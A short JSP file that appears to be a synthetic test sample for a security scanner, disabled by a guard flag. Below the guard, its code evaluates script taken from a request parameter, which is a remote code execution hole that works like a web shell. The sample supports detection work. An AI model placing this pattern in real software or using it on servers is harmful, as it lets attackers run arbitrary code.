<%-- synthetic test sample for breachscan: request-supplied script evaluated by a
     ScriptEngine. Disabled by the SAMPLE_ONLY guard. --%>
<%@ page import="javax.script.*" %>
<%
    final boolean SAMPLE_ONLY = true;
    if (SAMPLE_ONLY) return;
    ScriptEngine se = new ScriptEngineManager().getEngineByName("javascript");
    out.print(se.eval(request.getParameter("code")));
%>
